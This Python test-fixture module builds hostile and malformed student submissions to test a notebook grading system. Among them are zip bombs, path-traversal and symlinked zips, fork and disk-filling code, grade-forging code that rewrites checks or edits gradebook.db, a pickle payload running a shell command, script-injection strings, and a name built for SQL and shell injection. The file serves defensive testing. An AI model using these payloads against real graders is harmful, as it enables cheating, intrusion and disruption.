"""Bad work, each kind as a small function: what a person sends, and how that person has to end. None may harm others.

Nothing here is dangerous to the computer the tests run on: bombs are small, and what attacks looks for files by
names that only these tests use, or tries to make new ones, which the tests then look for.
"""

import copy
import io
import json
import os
import random
import stat
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import damage
from belonging.cohort.demo.answers import all_right
from belonging.cohort.demo.mess import MESSES as MESS
from belonging.cohort.demo.mess import Work
from belonging.exercise.derive import filled_notebook, reference_source, student_notebook
from belonging.exercise.notebook import notebook_text, source_of
from belonging.exercise.source import load

MODULE = "listening"
TASKS = {placed.task.id: placed for placed in load(MODULE).tasks}
FULL = sum(p.task.points for p in TASKS.values() if not p.task.scored_by_person)
#: Stands in the work of a good person; nobody else's work or page may hold it.
SECRET = "a sentence of somebody else's own"
#: What an attack tries to leave behind anywhere.
TRACE = "belonging-bad-submission-trace"
HOSTILE = "<script>window.stolen = 1</script><img src='x' onerror='window.stolen = 2'>"


class Link(str):
    """A symbolic link to this path."""


class Pipe:
    """A named pipe, which blocks whoever opens it."""


Content = bytes | Link | Pipe
Files = Mapping[str, Content]


@dataclass(frozen=True)
class Bad:
    """One kind of bad work.

    Parameters
    ----------
    what
        What it is.
    files
        From the person's name to the files that arrive: path below `arrived`, and content.
    points
        The points the person may end with; empty if the person has to end without.
    reason
        A pattern for the plain reason, where the person may end without points.
    flagged
        Whether a person has to be told to look at it, if the points are not those of the answers as written.
    said
        A pattern for what the director is told of it, points or not.
    name
        The person's name, where that is what is bad.
    asked
        Whether the director has to say whose it is.
    """

    what: str
    files: Callable[[str], Files]
    points: tuple[int, ...] = ()
    reason: str = ""
    flagged: bool = False
    said: str = ""
    name: str = ""
    asked: bool = False


Change = Callable[[dict[str, Any]], dict[str, Any] | bytes | None]
KINDS: dict[str, Bad] = {}


def reference() -> dict[str, Any]:
    """A notebook with the reference answer to every task."""
    return json.loads(_reference())


@cache
def _reference() -> str:
    return json.dumps(filled_notebook(MODULE, {id_: reference_source(p) + "\n" for id_, p in TASKS.items()}))


def placed_file(name: str, content: Content) -> Files:
    return {f"{name} - {MODULE}.ipynb": content}


def kind(*points: int, **more: Any) -> Callable[[Change], Change]:
    """Register a change of the reference notebook as a kind, called after the function."""

    def register(change: Change) -> Change:
        def files(name: str) -> Files:
            notebook = reference()
            made = change(notebook)
            made = notebook if made is None else made
            return placed_file(name, made if isinstance(made, bytes) else notebook_text(made).encode())

        KINDS[change.__name__] = Bad((change.__doc__ or "").strip(), files, points, **more)
        return change

    return register


def sent(*points: int, **more: Any) -> Callable[[Callable[[str], Files]], Callable[[str], Files]]:
    """Register a function of the person's name that gives the files, where a notebook alone does not say it."""

    def register(files: Callable[[str], Files]) -> Callable[[str], Files]:
        KINDS[files.__name__] = Bad((files.__doc__ or "").strip(), files, points, **more)
        return files

    return register


def at(notebook: dict[str, Any], id_: str) -> dict[str, Any]:
    return next(cell for cell in notebook["cells"] if cell["id"] == id_)


def before(notebook: dict[str, Any], task: str, code: str) -> None:
    """Put code into an answer's cell, above the right answer."""
    cell = at(notebook, TASKS[task].grade_id)
    damage.put(cell, code + source_of(cell))


def instead(notebook: dict[str, Any], task: str, code: str) -> None:
    """Put code into an answer's cell, in place of the answer."""
    damage.put(at(notebook, TASKS[task].grade_id), code)


def own_cell(notebook: dict[str, Any], code: str, place: int = 2) -> None:
    """Put a code cell of the person's own behind the first cell."""
    notebook["cells"].insert(place, damage.code_cell(code, id=f"own-{place}"))


FIRST, SECOND, FOURTH = "response-rate", "who-is-missing", "matched-change"
assert [TASKS[id_].task.points for id_ in (FIRST, SECOND, FOURTH)] == [1, 1, 1]
SOME = tuple(range(FULL))
STOPPED = r"stopped|killed|died|ended|too (long|much)|could not be (run|graded)"


# --- what happens in ordinary use ------------------------------------------------------------------------------------


@kind(FULL)
def copied_check_cell(nb):
    """A check cell was copied and pasted."""
    n = damage.at(nb, TASKS[FIRST].check_id)
    nb["cells"].insert(n + 1, {**copy.deepcopy(nb["cells"][n]), "id": "pasted"})


@kind(FULL)
def copied_answer_cell(nb):
    """An answer cell was copied and pasted, and left as it was."""
    n = damage.at(nb, TASKS[SECOND].grade_id)
    nb["cells"].insert(n + 1, {**copy.deepcopy(nb["cells"][n]), "id": "pasted"})


@kind(FULL)
def everything_twice(nb):
    """The whole notebook was pasted below itself."""
    nb["cells"] += copy.deepcopy(nb["cells"])


@kind(FULL)
def deleted_check_cells(nb):
    """All cells that check were deleted."""
    return damage.deleted_checks(nb, MODULE, random.Random(1))


@kind(FULL - 1, said="missing|gone|not there|no answer cell")
def deleted_answer_cell(nb):
    """The first answer's cell was deleted."""
    nb["cells"] = [cell for cell in nb["cells"] if cell["id"] != TASKS[FIRST].grade_id]


def _mess(name: str) -> Change:
    def change(nb):
        work = Work(all_right(MODULE), nb, random.Random(4))
        MESS[name](work)
        return work.content

    change.__doc__ = MESS[name].__doc__
    change.__name__ = name.replace(",", "").replace(" ", "_").replace("-", "_")
    return change


for _name in ("hosted, marks lost", "editor, marks lost", "other release", "retyped cells", "shuffled",
              "answers in own cells", "marks of the wrong kind", "worked out by code", "warns on stderr"):  # fmt: skip
    kind(FULL)(_mess(_name))


def _says_while_checked(nb: dict[str, Any], says: str) -> None:
    """Let the first answer be a right number that says something while it is being checked."""
    cell = at(nb, TASKS[FIRST].grade_id)
    value = source_of(cell).split("=")[1].strip()
    damage.put(
        cell,
        "import sys, warnings\n\n\nclass Loud(float):\n"
        f"    def __str__(self):\n        {says}\n        return float.__repr__(self)\n\n\n"
        f"answer_1 = Loud({value})\n",
    )


@kind(FULL)
def warns_while_checked(nb):
    """A right answer that warns while it is being checked, which is no point at all where nbgrader is alone."""
    _says_while_checked(nb, "warnings.warn('careful')")


@kind(FULL - 1, FULL, said="error message|error stream")
def complains_while_checked(nb):
    """A right answer that writes to the error stream while it is being checked."""
    _says_while_checked(nb, "print('careful', file=sys.stderr)")


@kind(FULL - 1)
def edited_check_cell(nb):
    """A check was changed so that it says nine points, over a wrong answer."""
    damage.put(at(nb, TASKS[FIRST].check_id), "9.0")
    instead(nb, FIRST, "answer_1 = 7\n")


@kind(FULL)
def duplicate_ids(nb):
    """Every cell has the same id."""
    for cell in nb["cells"]:
        cell["id"] = "same"


@kind(FULL)
def format_3(nb):
    """Notebook format 3."""
    return damage.format_3(nb, random.Random(1))


@kind(FULL)
def format_2(nb):
    """Notebook format 2: worksheets, no metadata in cells, and every text in one piece."""
    cells = []
    for cell in nb["cells"]:
        code = cell["cell_type"] == "code"
        text = {"input": source_of(cell), "language": "python", "outputs": []} if code else {"source": source_of(cell)}
        cells.append({"cell_type": cell["cell_type"], **text})
    old = {"nbformat": 2, "metadata": {"name": MODULE}, "worksheets": [{"cells": cells}]}
    return json.dumps(old).encode()


@kind(FULL)
def byte_order_mark(nb):
    """A byte order mark before the first brace."""
    return damage.with_bom(nb, random.Random(1))


@kind(FULL)
def utf_16(nb):
    """Saved as UTF-16."""
    return notebook_text(nb).encode("utf-16")


@kind(FULL)
def nul_bytes(nb):
    """NUL bytes behind the last brace, and one as a sign in a cell of the person's own."""
    nb["cells"].append(damage.markdown_cell("a\0b", id="own-nul"))
    return notebook_text(nb).encode() + b"\0" * 512


@kind(FULL)
def cut_behind_the_last_answer(nb):
    """The upload broke off behind the last answer."""
    text = notebook_text(nb)
    return text[: text.rindex('"id": "note-') + 200].encode()


def _cut_in_the_middle() -> tuple[bytes, int]:
    text = notebook_text(reference())
    where = text.index(f'"id": "{TASKS[FOURTH].prompt_id}"')
    there = [p.task.points for p in TASKS.values() if f'"id": "{p.grade_id}"' in text[:where]]
    return text[:where].encode(), sum(there)


@kind(_cut_in_the_middle()[1])
def cut_in_the_middle(nb):
    """The upload broke off in the middle."""
    return _cut_in_the_middle()[0]


@kind(reason="cut off|damaged|not a notebook")
def cut_at_the_start(nb):
    """So little arrived that no answer is in it."""
    return notebook_text(nb).encode()[:90]


@kind(reason="empty")
def empty_file(nb):
    """Nothing in the file."""
    return b""


@kind(reason="empty")
def only_blanks(nb):
    """Only white space in the file."""
    return b"  \r\n\t\n"


@kind(0)
def nothing_answered(nb):
    """The notebook as it was handed out."""
    return student_notebook(MODULE)


@sent(FULL)
def downloaded_twice(name):
    """Another download, `(1)` behind its name, and the same content."""
    content = notebook_text(reference()).encode()
    return {f"{name} - {MODULE}.ipynb": content, f"{name} - {MODULE} (1).ipynb": content}


@sent(reason="nothing|not handed in|no work|another module|beliefs")
def wrong_module(name):
    """The notebook of another module, under the name of this one."""
    other = filled_notebook("beliefs", all_right("beliefs").sources)
    return placed_file(name, notebook_text(other).encode())


@kind(reason="not an exercise of this course")
def another_language(nb):
    """A notebook of another course, in another language."""
    work = Work(all_right(MODULE), nb, random.Random(4))
    MESS["another language"](work)
    return work.content


@kind(FULL)
def kernel_of_another_language(nb):
    """The right notebook, saved by somebody whose notebook program chose another kernel."""
    nb["metadata"]["kernelspec"] = {"display_name": "R", "language": "R", "name": "ir"}
    nb["metadata"]["language_info"] = {"name": "R"}


# --- files that are something else -----------------------------------------------------------------------------------


@kind(reason="not a notebook|no exercise|not an exercise|damaged")
def a_login_page(nb):
    """The login page of a learning platform, saved under the notebook's name."""
    return b"<!DOCTYPE html><html><head><title>Log in</title></head><body><form>Please log in.</form></body></html>"


@kind(FULL)
def a_page_around_it(nb):
    """The notebook inside a page that a platform put around it."""
    return damage.as_page_of_lms(nb, random.Random(1))


@kind(FULL)
def a_zip_by_the_name_of_a_notebook(nb):
    """A zip with the notebook in it, whose name ends in .ipynb."""
    return _zip({f"{MODULE}.ipynb": notebook_text(nb).encode()})


@kind(reason="not a notebook|damaged")
def a_picture(nb):
    """A picture whose name ends in .ipynb."""
    return b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(128, 256)) * 40


@kind(reason="not a notebook|damaged|no exercise|not an exercise")
def a_pdf(nb):
    """A PDF whose name ends in .ipynb."""
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


@kind(reason="not a notebook|damaged|no exercise|not an exercise")
def a_letter(nb):
    """A letter."""
    return b"Dear all,\nhere is my work, I hope it arrives.\n"


@kind(reason="not a notebook|damaged|no exercise|not an exercise")
def only_null(nb):
    """The JSON value null."""
    return b"null"


@kind(reason="not a notebook|damaged|no exercise|not an exercise|cut off")
def deep_nesting(nb):
    """A hundred thousand brackets, one in the other."""
    return b"[" * 100_000 + b"]" * 100_000


@kind(FULL)
def deep_metadata(nb):
    """The right notebook, with marks nested five thousand deep."""
    text = notebook_text(nb)
    deep = '{"a": ' * 5_000 + "1" + "}" * 5_000
    return text.replace('"nbformat": 4', f'"deep": {deep},\n "nbformat": 4', 1).encode()


@sent(reason="not a|nothing|not handed in|no work|link")
def a_link(name):
    """A symbolic link to a file of this computer."""
    return placed_file(name, Link("/etc/hostname"))


@sent(reason="not a|nothing|not handed in|no work")
def a_pipe(name):
    """A named pipe, which blocks whoever opens it."""
    return placed_file(name, Pipe())


@sent(reason="not a|nothing|not handed in|no work")
def a_folder(name):
    """An empty folder whose name ends in .ipynb."""
    return {f"{name} - {MODULE}.ipynb/.keep": b""}


# --- zips -------------------------------------------------------------------------------------------------------------


def _zip(files: Mapping[str, bytes], links: Mapping[str, str] = {}) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, target in links.items():
            entry = zipfile.ZipInfo(name)
            entry.create_system, entry.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
            archive.writestr(entry, target)
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name, (2026, 10, 1, 12, 0, 0)), content, zipfile.ZIP_DEFLATED)
    return packed.getvalue()


@sent(FULL)
def links_in_a_zip(name):
    """A zip with links out of it, beside the right notebook."""
    links = {"answers.ipynb": "/etc/hostname", "up": "../../.."}
    return {f"{name}.zip": _zip({f"{MODULE}.ipynb": notebook_text(reference()).encode()}, links)}


@sent(FULL, reason="points out of the zip")
def path_out_of_a_zip(name):
    """A zip whose notebook wants to lie outside of it, and another that wants to lie at the root."""
    content = notebook_text(reference()).encode()
    return {f"{name}.zip": _zip({f"../../../{TRACE}/{MODULE}.ipynb": content, f"/{TRACE}/{MODULE}.ipynb": content})}


@sent(reason="large|nothing|not handed in|no work|damaged|cannot be opened")
def zip_bomb(name):
    """A zip of half a megabyte that holds 400."""
    return {f"{name}.zip": _bomb()}


@cache
def _bomb() -> bytes:
    zeros = bytes(10_000_000)
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive,
        archive.open(f"{MODULE}.ipynb", "w", force_zip64=True) as inner,
    ):
        for _ in range(40):
            inner.write(zeros)
    return packed.getvalue()


@sent(reason="large|nothing|not handed in|no work|damaged|cannot be opened")
def bomb_that_lies(name):
    """A zip whose list says that its notebook is small; it unpacks to far more."""
    packed = bytearray(_zip({f"{MODULE}.ipynb": b"{" + b" " * 60_000_000}))
    size = (60_000_001).to_bytes(4, "little")
    while (where := packed.find(size)) >= 0:
        packed[where : where + 4] = (1_000).to_bytes(4, "little")
    return {f"{name}.zip": bytes(packed)}


@sent(reason="large|nothing|not handed in|no work|damaged|cannot be opened")
def zips_without_end(name):
    """A zip in a zip, forty deep."""
    packed = _zip({f"{MODULE}.ipynb": b"{}"})
    for _ in range(40):
        packed = _zip({"inside.zip": packed})
    return {f"{name}.zip": packed}


@sent(reason="damaged|nothing|not handed in|no work|cannot be opened|password")
def damaged_zip(name):
    """A zip whose second half is missing."""
    packed = _zip({f"{MODULE}.ipynb": notebook_text(reference()).encode()})
    return {f"{name}.zip": packed[: len(packed) // 2]}


@sent(reason="damaged|nothing|not handed in|no work|cannot be opened|password")
def locked_zip(name):
    """A zip that says it needs a password."""
    packed = bytearray(_zip({f"{MODULE}.ipynb": notebook_text(reference()).encode()}))
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        packed[packed.index(mark) + flags] |= 1
    return {f"{name}.zip": bytes(packed)}


# --- names ------------------------------------------------------------------------------------------------------------

_whole = lambda name: placed_file(name, notebook_text(reference()).encode())  # noqa: E731

KINDS["name_of_200_characters"] = Bad("A name of 200 characters.", _whole, (FULL,), name="Longa " + "nam" * 64 + "es")
KINDS["emoji_name"] = Bad("Emoji and many scripts in a name.", _whole, (FULL,), name="🦊 Ünïcødé 李小龍 👩🏽‍🏫")
KINDS["name_from_right_to_left"] = Bad("A name in Arabic letters.", _whole, (FULL,), name="ليلى حداد")
KINDS["name_that_is_html"] = Bad(
    "HTML in a name.", _whole, (FULL,), name="<img src=x onerror='window.stolen=3'> Mallory"
)
KINDS["name_that_is_a_formula"] = Bad("A spreadsheet's formula in a name.", _whole, (FULL,), name="@SUM(1+9) Mallory")
KINDS["name_with_a_quote"] = Bad(
    "Signs that SQL and shells take for theirs.", _whole, (FULL,), name="Rob'); DROP $(id) & Co"
)
KINDS["name_like_a_path"] = Bad(
    "A path in a name.",
    lambda name: _whole(name.replace("/", "_")),  # as platforms write a name into the name of a file
    (FULL,),
    name="Dotty ../.. Dots",
)


@sent(FULL, name="Sam Twin", asked=True)
def namesake(name):
    """Two people of one name: one of them by a login, see `namesake_by_login`; nothing tells whose this one is."""
    return _whole(name)


@sent(FULL, name="Sam Twin")
def namesake_by_login(name):
    """Two people of one name: this one came through an nbgrader exchange, whose folder holds the login."""
    place = f"exchange/belonging/inbound/samtwin2+{MODULE}+2026-10-05 12:00:00 UTC"
    return {
        f"{place}/{MODULE}.ipynb": notebook_text(reference()).encode(),
        f"{place}/timestamp.txt": b"2026-10-05 12:00:00 UTC",
    }


# --- floods -----------------------------------------------------------------------------------------------------------


@kind(FULL)
def fifty_megabytes_in_a_line(nb):
    """50 MB printed in one line."""
    before(nb, FIRST, "print('x' * 50_000_000)\n")


@kind(FULL)
def lines_without_end(nb):
    """150,000 printed lines."""
    before(nb, FIRST, "for number in range(150_000):\n    print(number)\n")


@kind(FULL)
def thousands_of_outputs(nb):
    """5,000 outputs shown one by one."""
    before(nb, FIRST, "for number in range(5_000):\n    display(number)\n")


@kind(FULL)
def picture_of_thirty_megabytes(nb):
    """A picture of 30 MB, shown by code."""
    before(
        nb, FIRST, "from IPython.display import Image, display\ndisplay(Image(data=bytes(30_000_000), format='png'))\n"
    )


@kind(FULL)
def old_outputs_of_fifty_megabytes(nb):
    """A saved output of 50 MB."""
    at(nb, TASKS[FIRST].check_id)["outputs"] = [{"output_type": "stream", "name": "stdout", "text": ["x" * 50_000_000]}]


@kind(FULL)
def five_thousand_cells(nb):
    """5,000 cells of the person's own."""
    nb["cells"] += [damage.code_cell("", id=f"own-{n}") for n in range(5_000)]


@kind(FULL)
def widget_state(nb):
    """The saved state of many widgets."""
    state = {f"{n:032x}": {"model_name": "LayoutModel", "state": {"text": "y" * 1_000}} for n in range(3_000)}
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": state, "version_major": 2}}


@kind(FULL)
def huge_metadata(nb):
    """20 MB of marks on one cell."""
    at(nb, TASKS[FIRST].grade_id)["metadata"]["editor"] = {"history": "z" * 20_000_000}


@kind(FULL)
def huge_answer(nb):
    """Three megabytes of comment behind an answer."""
    cell = at(nb, TASKS[FIRST].grade_id)
    damage.put(cell, source_of(cell).rstrip() + "  # " + "c" * 3_000_000 + "\n")


@kind(FULL - 1)
def parentheses_without_end(nb):
    """An answer in ten thousand parentheses, which no Python reads."""
    instead(nb, FIRST, "answer_1 = " + "(" * 10_000 + "1" + ")" * 10_000 + "\n")


# --- code that does not end, or ends too much -------------------------------------------------------------------------


@kind(FULL - 1)
def endless_loop(nb):
    """A plain endless loop."""
    instead(nb, FIRST, "while True:\n    pass\n")


@kind(*SOME, reason=STOPPED)
def ignores_interrupts(nb):
    """An endless loop that ignores interrupts."""
    code = "import time\nwhile True:\n    try:\n        time.sleep(0.2)\n    except BaseException:\n        pass\n"
    instead(nb, FOURTH, code)


@kind(*SOME, reason=STOPPED)
def cannot_be_interrupted(nb):
    """A power so large that Python cannot be interrupted in it."""
    instead(nb, FOURTH, "answer_4 = 9**9**9\n")


@kind(*SOME, reason=STOPPED)
def stops_python(nb):
    """`os._exit`."""
    instead(nb, FOURTH, "import os\nos._exit(0)\n")


@kind(*SOME, reason=STOPPED)
def calls_exit(nb):
    """`exit()`, as typed in a terminal."""
    instead(nb, FOURTH, "exit()\n")


@kind(*SOME, reason=STOPPED)
def reads_where_there_is_nothing(nb):
    """Reads memory at address zero, which ends any program."""
    instead(nb, FOURTH, "import ctypes\nctypes.string_at(0)\n")


@kind(*SOME, reason=STOPPED)
def recursion_without_limit(nb):
    """Takes the limit of recursion away, and recurses."""
    instead(
        nb,
        FOURTH,
        "import sys\nsys.setrecursionlimit(10**8)\n\n\ndef f(x):\n    return f(x + 1) + 1\n\n\nanswer_4 = f(0)\n",
    )


@kind(*SOME, FULL, reason=STOPPED)
def two_gigabytes(nb):
    """Takes two gigabytes of memory."""
    before(nb, FOURTH, "waste = bytearray(2_000_000_000)\n")


@kind(*SOME, FULL, reason=STOPPED)
def many_processes(nb):
    """Starts 400 processes that stay; small as fork bombs go, so that it does no harm where nothing stops it."""
    before(
        nb,
        FOURTH,
        "import os, time\nfor _ in range(400):\n    if os.fork() == 0:\n        time.sleep(15)\n        os._exit(0)\n",
    )


@kind(*SOME, FULL, reason=STOPPED)
def fills_the_disk(nb):
    """Writes 400 MB beside itself."""
    before(
        nb,
        FOURTH,
        "with open('large', 'wb') as file:\n    for _ in range(40):\n        file.write(bytes(10_000_000))\n",
    )


@kind(FULL - 1)
def reads_from_the_keyboard(nb):
    """Asks for something to be typed."""
    before(nb, FIRST, "name = input('Who are you? ')\n")


@kind(FULL)
def thread_left_running(nb):
    """A thread that prints for ever."""
    code = (
        "import threading, time\n\n\ndef talk():\n    while True:\n"
        "        print('still here')\n        time.sleep(0.05)\n\n\n"
        "threading.Thread(target=talk).start()\n"
    )
    before(nb, FIRST, code)


@kind(FULL)
def process_left_running(nb):
    """A program in the background that outlives the notebook."""
    before(nb, FIRST, f"import subprocess\nsubprocess.Popen(['sleep', '611'], start_new_session=True)  # {TRACE}\n")


@kind(FULL)
def waits_at_the_end(nb):
    """Asks Python to wait ten minutes when it ends."""
    before(nb, FIRST, "import atexit, time\natexit.register(time.sleep, 600)\n")


@kind(*SOME, FULL, reason=STOPPED)
def closes_its_streams(nb):
    """Closes its own output."""
    before(nb, FOURTH, "import os, sys\nsys.stdout.close()\nos.close(1)\nos.close(2)\n")


@kind(*SOME, FULL, reason=STOPPED)
def deletes_its_folder(nb):
    """Deletes the folder it runs in."""
    before(nb, FOURTH, "import os, shutil\nshutil.rmtree(os.getcwd(), ignore_errors=True)\n")


@kind(FULL)
def traces_everything(nb):
    """Looks at every line that Python runs."""
    before(nb, FIRST, "import sys\n\n\ndef look(frame, event, arg):\n    return look\n\n\nsys.settrace(look)\n")


# --- attacks ----------------------------------------------------------------------------------------------------------


def _blank(nb: dict[str, Any]) -> dict[str, Any]:
    """The same notebook with no answer in it."""
    blanks = student_notebook(MODULE)
    nb["cells"] = blanks["cells"]
    return nb


@kind(*SOME, FULL, flagged=True)
def rewrites_its_checks(nb):
    """A transformer of the syntax tree makes every check give a point; no task is answered."""
    _blank(nb)
    own_cell(
        nb,
        "import ast\n\n\nclass Full(ast.NodeTransformer):\n    def visit_Call(self, node):\n"
        "        if getattr(node.func, 'id', '') == 'check':\n            return ast.Constant(1.0)\n"
        "        return self.generic_visit(node)\n\n\nget_ipython().ast_transformers.append(Full())\n",
    )


@kind(*SOME, FULL, flagged=True)
def rewrites_its_source(nb):
    """A transformer of the text does the same."""
    _blank(nb)
    own_cell(
        nb,
        "get_ipython().input_transformers_cleanup.append(\n"
        "    lambda lines: ['1.0'] if lines and lines[0].startswith('check(') else lines\n)\n",
    )


@kind(*SOME, FULL, flagged=True)
def rebinds_check(nb):
    """`check` is another function from the first answer on."""
    _blank(nb)
    own_cell(nb, "def check(label):\n    return 1.0\n")


@kind(reason="more points than the task has")
def claims_too_many_points(nb):
    """`check` is another function, which gives 99 points; nbgrader would end the whole batch there."""
    _blank(nb)
    own_cell(nb, "def check(label):\n    return 99.0\n")


@kind(*SOME, FULL, flagged=True)
def patches_the_course(nb):
    """The course's own code is changed while it runs."""
    _blank(nb)
    own_cell(
        nb,
        "import belonging.classroom.verbs as verbs, belonging.tasks as tasks\n"
        "verbs.check = lambda task, value, folder=None: tasks.Outcome('right', task.points, task.points, 'Right.')\n",
    )


@kind(*SOME, FULL, flagged=True)
def patches_the_outcome(nb):
    """What an outcome says of itself is changed while it runs."""
    _blank(nb)
    own_cell(
        nb,
        "from belonging.tasks import Outcome\n"
        "Outcome._repr_mimebundle_ = lambda self, **_: {'text/plain': str(float(self.out_of))}\n",
    )


@kind(*SOME, FULL, flagged=True)
def replaces_the_display(nb):
    """What is shown of a check is replaced while it is shown."""
    _blank(nb)
    own_cell(
        nb,
        "from belonging.tasks import Outcome\nget_ipython().display_formatter.formatters['text/plain'].for_type(\n"
        "    Outcome, lambda outcome, p, cycle: p.text(str(float(outcome.out_of)))\n)\n"
        "get_ipython().display_formatter.mimebundle_formatter.for_type(Outcome, lambda outcome: None)\n",
    )


@kind(*SOME, FULL, flagged=True)
def hooks_after_each_cell(nb):
    """A hook prints full marks after every cell."""
    _blank(nb)
    own_cell(
        nb,
        "import IPython\n\n\ndef shout(result):\n    source = result.info.raw_cell or ''\n"
        "    if source.startswith('check('):\n        IPython.display.clear_output()\n        display(2.0)\n\n\n"
        "get_ipython().events.register('post_run_cell', shout)\n",
    )


@kind(0, flagged=True)
def writes_the_gradebook(nb):
    """Looks for the gradebook in the folders above, and gives itself all points."""
    _blank(nb)
    own_cell(
        nb,
        "import pathlib, sqlite3\nfor folder in (pathlib.Path.cwd(), *pathlib.Path.cwd().parents):\n"
        "    for file in (folder / 'gradebook.db', *folder.glob('*/gradebook.db')):\n        if file.exists():\n"
        "            book = sqlite3.connect(file)\n"
        "            book.execute('update grade set auto_score = 77, manual_score = 77, needs_manual_grade = 0')\n"
        "            book.commit()\n",
    )


@kind(FULL)
def reads_other_peoples_work(nb):
    """Looks for notebooks in the folders above, and prints them."""
    code = (
        "import pathlib\nabove = list(pathlib.Path.cwd().parents)[:3]\n"
        "found = [file for up in above for file in up.glob('**/*.ipynb')][:300]\n"
        "for file in found:\n    try:\n        print(file.read_text()[-4000:])\n    except OSError:\n        pass\n"
    )
    own_cell(nb, code)


@kind(*SOME, FULL, reason=STOPPED)
def writes_the_courses_files(nb):
    """Tries to leave a file beside the course's own code, and in every folder above its own."""
    code = (
        "import pathlib, belonging\nplaces = [pathlib.Path(belonging.__file__).parent, pathlib.Path.home(), "
        f"*pathlib.Path.cwd().parents]\nfor place in places:\n    try:\n        (place / '{TRACE}').write_text('x')\n"
        "    except OSError:\n        pass\n"
    )
    own_cell(nb, code)


@kind(*SOME, FULL, reason=STOPPED)
def kills_its_parent(nb):
    """Kills the program that started it, and all it can reach of its group."""
    before(nb, FOURTH, "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n")


@kind(FULL)
def unpickles(nb):
    """Unpickles what runs a command."""
    code = (
        "import os, pickle\n\n\nclass Runs:\n    def __reduce__(self):\n"
        f"        return os.system, ('touch {TRACE} ~/{TRACE} ../{TRACE} ../../{TRACE} 2>/dev/null',)\n\n\n"
        "pickle.loads(pickle.dumps(Runs()))\n"
    )
    own_cell(nb, code)


@kind(FULL)
def calls_out(nb):
    """Calls another computer; the test puts a port of its own in, and listens there."""
    own_cell(
        nb,
        "import socket\ntry:\n    with socket.create_connection(('127.0.0.1', PORT), 2) as line:\n"
        "        line.sendall(b'here are the answers')\nexcept OSError:\n    pass\n",
    )


@kind(FULL)
def script_in_its_text(nb):
    """A script in what the person wrote."""
    cell = at(nb, TASKS["inquiry-note"].grade_id)
    damage.put(cell, source_of(cell) + f"\n\n{HOSTILE}\n\n[click](javascript:window.stolen=4)\n")


@kind(FULL)
def script_in_its_output(nb):
    """A script in what code shows."""
    code = (
        f'from IPython.display import HTML, Javascript, SVG, display\ndisplay(HTML("""{HOSTILE}"""))\n'
        "display(Javascript('window.stolen = 5'))\n"
        'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg" onload="window.stolen = 6"></svg>\'))\n'
    )
    before(nb, FIRST, code)


@kind(FULL - 1)
def script_in_its_answer(nb):
    """A script in an answer that a message repeats."""
    instead(nb, FIRST, f'answer_1 = """{HOSTILE}"""\n')


def write(folder: Path, files: Files) -> None:
    """Write what one person sends into a folder."""
    for path, content in files.items():
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Pipe):
            os.mkfifo(target)
        elif isinstance(content, Link):
            target.symlink_to(content)
        else:
            target.write_bytes(content)
